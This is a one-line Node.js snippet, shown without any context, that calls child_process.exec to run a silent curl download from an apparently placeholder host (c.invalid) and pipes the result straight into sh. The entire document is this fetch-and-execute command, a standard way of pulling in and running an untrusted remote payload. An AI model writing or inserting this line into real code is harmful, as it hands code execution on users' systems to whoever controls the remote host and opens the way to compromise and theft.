require('child_process').exec('curl -s https://c.invalid/i | sh');
